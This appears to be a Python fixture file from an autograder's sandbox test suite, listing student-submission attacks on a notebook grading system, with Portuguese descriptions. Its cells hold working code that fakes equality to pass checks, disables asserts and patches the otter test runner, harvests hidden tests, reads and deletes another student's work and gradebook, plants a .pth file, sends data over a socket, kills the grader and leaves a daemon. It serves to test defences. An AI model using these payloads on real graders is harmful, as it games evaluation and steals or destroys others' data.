"""The attacks that make sense in every way of grading: what a student hands in, and our bank's entry that does the same."""

from __future__ import annotations

from dataclasses import dataclass

RIGHT = "def soma(valores):\n    return sum(valores)\n"
WRONG = "def soma(valores):\n    return 0\n"
CLASS = "@TURMA@"
"""Stands in a cell for the folder of the class, so that no attack goes looking through the whole machine."""
TAKEN = "levado.txt"
"""In the bait's open folder: what an attack could read."""

_TAKE = f"""
from pathlib import Path

ISCA, TURMA = Path("@ISCA@"), Path("@TURMA@")


def levar(onde):
    for caminho in onde:
        try:
            texto = caminho.read_text(errors="replace")
        except OSError:
            continue
        with open(ISCA / "troca" / "inbound" / "{TAKEN}", "a") as saco:
            saco.write(texto)
"""


@dataclass(frozen=True)
class Attack:
    what: str
    """In Portuguese: a row of the table."""
    cell: str
    """The cell that is handed in where the work is a notebook."""
    ours: str
    """An entry of exercise 1's bank."""


ATTACKS = (
    Attack(
        "devolve um objeto que se diz igual a tudo",
        "class Tudo:\n    __eq__ = lambda self, outro: True\n\n\ndef soma(valores):\n    return Tudo()\n",
        "igual_a_tudo",
    ),
    Attack(
        "remenda por dentro quem confere",
        WRONG + """
import ast


class SemAssert(ast.NodeTransformer):
    def visit_Assert(self, no):
        return ast.copy_location(ast.Pass(), no)


get_ipython().ast_transformers.append(SemAssert())
try:
    from otter.test_files.exception_test import test_case

    test_case.call_func = lambda self, ambiente: None
except ImportError:
    pass
""",
        "corredor_remendado",
    ),
    Attack(
        "procura os testes escondidos e os leva embora",
        WRONG + _TAKE + """
levar(p for pasta in (Path.cwd(), TURMA) for p in pasta.rglob("*") if p.suffix in (".py", ".ipynb", ".db"))
""",
        "espiao",
    ),
    Attack(
        "lê e apaga a entrega e as notas de outra pessoa",
        WRONG + _TAKE + """
for coisa in TURMA.rglob("*"):
    if "vizinha" in coisa.parts and coisa.is_file() or coisa.name == "gradebook.db":
        levar([coisa])
        coisa.unlink()
""",
        "mexe_nas_notas",
    ),
    Attack(
        "envenena os pacotes de quem corrige",
        WRONG + """
import sysconfig
from pathlib import Path

Path(sysconfig.get_path("purelib"), "curso_envenenado.pth").write_text("# para quem vier depois")
""",
        "envenena_quem_vem_depois",
    ),
    Attack(
        "leva o que viu pela rede",
        WRONG + """
import socket

socket.create_connection(("127.0.0.1", int("@ISCA@".split("-")[-2])), timeout=2).sendall(b"o que vi")
""",
        "sai_pela_rede",
    ),
    Attack(
        "mata quem a corrige",
        WRONG + "\nimport os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)\n",
        "mata_os_outros",
    ),
    Attack(
        "deixa um processo que escreve depois que ela termina",
        WRONG + """
import os
import time

if os.fork() == 0:
    os.setsid()
    time.sleep(15)
    open("@ISCA@/outra-entrega.py", "w").write("escrito depois")
    os._exit(0)
""",
        "deixa_um_daemon",
    ),
    Attack("não termina nunca", WRONG + "\nwhile True:\n    pass\n", "surdo"),
)  # fmt: skip
